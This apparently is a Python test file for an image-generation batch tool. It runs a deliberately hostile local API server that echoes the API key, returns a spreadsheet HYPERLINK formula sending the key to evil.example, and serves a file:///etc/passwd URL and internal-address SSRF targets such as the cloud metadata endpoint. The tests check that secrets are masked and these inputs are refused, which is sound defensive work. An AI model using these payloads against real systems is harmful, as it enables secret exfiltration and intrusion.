"""A deliberately hostile OpenAI-compatible server on loopback: it echoes the key everywhere,
answers with formulas and control characters, and hands out image URLs that cannot work."""

from __future__ import annotations

import asyncio
import base64
import io
import json
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import httpx
import pandas as pd
import pytest
from click.testing import CliRunner
from helpers import no_download, open_store
from PIL import Image

from imagebatch.cli import main
from imagebatch.configs.settings import ApiSettings
from imagebatch.tasks.api_client import ImagesClient
from imagebatch.tasks.batch_collect import Collector
from imagebatch.tasks.batch_ledger import Part
from imagebatch.tasks.errors import RequestError

AZURE_STYLE_KEY = "0123456789abcdef0123456789abcdef"  # no sk- prefix


def _png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (1024, 1024), (10, 120, 200)).save(buf, "PNG")
    return buf.getvalue()


PNG = _png()


class Hostile(BaseHTTPRequestHandler):
    counts: ClassVar[Counter] = Counter()

    def log_message(self, *args: object) -> None:
        pass

    def _send(self, status: int, body: bytes, headers: dict[str, str]) -> None:
        self.send_response(status)
        for k, v in headers.items():
            self.send_header(k, v)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        path = self.path.split("?")[0]
        self.counts[path] += 1
        if path == "/loop":
            self._send(302, b"", {"location": "/loop"})
        elif path.startswith("/gone/"):
            self._send(404, b"", {})
        elif path == "/flaky.png" and self.counts[path] <= 2:
            self._send(503, b"busy", {})
        else:
            self._send(200, PNG, {"content-type": "image/png"})

    def do_POST(self) -> None:
        key = (self.headers.get("authorization") or "").removeprefix("Bearer ")
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        prompt = body.get("prompt", "")
        self.counts[prompt] += 1
        echo = {"x-request-id": f"req-{key}", "content-type": "application/json"}
        if "fail" in prompt:
            # "\udfff": a lone surrogate, legal as a JSON escape, not encodable as UTF-8
            error = {"message": f"bad key {key} in \udfff", "type": key, "code": key, "param": key}
            self._send(400, json.dumps({"error": error}).encode(), echo)
            return
        port = self.server.server_address[1]
        item: dict[str, str] = {
            "revised_prompt": f'=HYPERLINK("http://evil.example/{key}")\x07\x1b[31m\ud800'
        }
        if prompt == "file url":
            item["url"] = "file:///etc/passwd"
        elif prompt == "redirect loop":
            item["url"] = f"http://127.0.0.1:{port}/loop"
        elif prompt == "key in url":  # a URL that fails, naming the key in its path
            item["url"] = f"http://127.0.0.1:{port}/gone/{key}.png"
        elif prompt == "flaky download":
            item["url"] = f"http://127.0.0.1:{port}/flaky.png?sig=SIGNED-TOKEN"
        else:
            item["b64_json"] = base64.b64encode(PNG).decode()
        self._send(200, json.dumps({"created": 1, "data": [item]}).encode(), echo)


@pytest.fixture
def hostile():
    Hostile.counts = Counter()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def everything_written(folder: Path) -> str:
    return "\n".join(
        p.read_bytes().decode("utf-8", "replace") for p in folder.rglob("*") if p.is_file()
    )


def test_the_key_never_reaches_disk_or_terminal_and_server_text_is_data(
    prefect_api, hostile, tmp_path
):
    port = hostile.server_address[1]
    rows = [
        {"id": "ok", "prompt": "a fine picture"},
        {"id": "bad", "prompt": "please fail"},
        {"id": "file", "prompt": "file url", "model": "dall-e-2"},
        {"id": "loop", "prompt": "redirect loop", "model": "dall-e-2"},
        {"id": "flaky", "prompt": "flaky download", "model": "dall-e-2"},
        {"id": "keyurl", "prompt": "key in url", "model": "dall-e-2"},
    ]
    jobs = tmp_path / "jobs.csv"
    pd.DataFrame(rows).to_csv(jobs, index=False)
    out = tmp_path / "out"
    env = {
        "OPENAI_BASE_URL": f"http://127.0.0.1:{port}/v1",
        "OPENAI_API_KEY": AZURE_STYLE_KEY,
    }
    result = CliRunner().invoke(
        main, ["run", str(jobs), "--out", str(out), "--model", "gpt-image-1"], env=env
    )
    assert result.exit_code == 1, result.output
    assert AZURE_STYLE_KEY not in result.output
    assert AZURE_STYLE_KEY not in everything_written(out)

    m = pd.read_csv(out / "manifest.csv", keep_default_na=False).set_index("job_id")
    assert m.loc["ok", "status"] == "succeeded"
    assert m.loc["ok", "request_id"] == "req-[redacted]"
    # spreadsheet-safe: control characters gone, the formula shown as text
    # a lone surrogate is shown as its escape, written everywhere, and breaks nothing
    assert m.loc["ok", "revised_prompt"] == (
        '\'=HYPERLINK("http://evil.example/[redacted]")[31m\\ud800'
    )
    raw = pd.read_parquet(out / "manifest.parquet").set_index("job_id")
    assert raw.loc["ok", "revised_prompt"].endswith("\x07\x1b[31m\\ud800")
    assert m.loc["bad", "status"] == "failed" and "[redacted]" in m.loc["bad", "error_message"]
    assert m.loc["bad", "error_message"].endswith("in \\udfff")

    # url results: one that can never work fails without generating again; a transient
    # download failure is retried as a download; messages name the image URL
    assert m.loc["file", "status"] == "failed"
    assert m.loc["file", "error_code"] == "image_url_unfetchable"
    assert "file:///etc/passwd" in m.loc["file", "error_message"]
    assert m.loc["loop", "error_code"] == "image_url_unfetchable"
    assert "/loop" in m.loc["loop", "error_message"]
    assert m.loc["flaky", "status"] == "succeeded"
    assert m.loc["keyurl", "error_code"] == "download_failed"
    assert "/gone/[redacted].png" in m.loc["keyurl", "error_message"]
    assert Hostile.counts["file url"] == 1 and Hostile.counts["redirect loop"] == 1
    assert Hostile.counts["flaky download"] == 1 and Hostile.counts["/flaky.png"] == 3


def test_credentials_in_the_base_url_are_masked_in_run_json(prefect_api, hostile, tmp_path):
    port = hostile.server_address[1]
    jobs = tmp_path / "jobs.csv"
    pd.DataFrame([{"prompt": "a fine picture"}]).to_csv(jobs, index=False)
    out = tmp_path / "out"
    env = {
        "OPENAI_BASE_URL": f"http://proxyuser:pr0xy-pa55word@127.0.0.1:{port}/v1?token=tok-123456",
        "OPENAI_API_KEY": AZURE_STYLE_KEY,
    }
    result = CliRunner().invoke(main, ["run", str(jobs), "--out", str(out), "-q"], env=env)
    assert result.exit_code == 0, result.output
    text = everything_written(out) + result.output
    for secret in ("pr0xy-pa55word", "proxyuser", "tok-123456", AZURE_STYLE_KEY):
        assert secret not in text
    assert f"127.0.0.1:{port}" in json.loads((out / "run.json").read_text())["base_url"]


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/x.png",
        "http://169.254.169.254/latest/meta-data",
        "http://10.0.0.7/x.png",
        "http://[::1]/x.png",
        "http://localhost:8080/x.png",
    ],
)
def test_image_urls_at_internal_addresses_are_refused_for_a_public_base_url(url):
    def handler(request: httpx.Request) -> httpx.Response:
        raise AssertionError(f"must not be fetched: {request.url}")

    async def fetch() -> None:
        api = ApiSettings(base_url="https://api.openai.com/v1", api_key="sk-x")
        client = ImagesClient(api, transport=httpx.MockTransport(handler))
        try:
            await client.download(url)
        finally:
            await client.aclose()

    with pytest.raises(RequestError) as info:
        asyncio.run(fetch())
    assert info.value.code == "image_url_refused"


def test_batch_results_echoing_the_key_are_masked(tmp_path):
    """A batch output file is server text too: the key it echoes in a request id, a revised
    prompt, an error body or a line's error never reaches the journal."""
    key = AZURE_STYLE_KEY
    image = {"b64_json": base64.b64encode(PNG).decode(), "revised_prompt": f"a {key} cat"}
    bodies = {
        "ib-ok": {"status_code": 200, "request_id": f"req-{key}", "body": {"data": [image]}},
        "ib-bad": {
            "status_code": 400,
            "request_id": f"req-{key}",
            "body": {"error": {"message": f"bad key {key}", "code": key, "param": key}},
        },
        "ib-lost": None,
    }
    source = tmp_path / "output.jsonl"
    with source.open("w") as f:
        for cid, response in bodies.items():
            error = None if response else {"code": key, "message": f"expired {key}"}
            f.write(json.dumps({"custom_id": cid, "response": response, "error": error}) + "\n")
    units = {cid: [[f"key-{cid}", cid, cid, 0]] for cid in bodies}
    part = Part("p", "/v1/images/generations", "batch/p.jsonl", 3, 0, "", units)
    out = tmp_path / "out"
    store, journal = open_store(out)

    async def collect():
        collector = Collector(store, journal, "run", no_download, {}, secrets=(key,))
        return await collector.collect(part, {"id": "b", "status": "completed"}, [source], True)

    got = asyncio.run(collect())
    journal.close()
    records = got.records + got.not_run
    assert sorted(r.job_id for r in records) == ["ib-bad", "ib-lost", "ib-ok"]
    assert key not in repr(records)
    assert key not in everything_written(out)
    assert next(r for r in records if r.job_id == "ib-ok").revised_prompt == "a [redacted] cat"
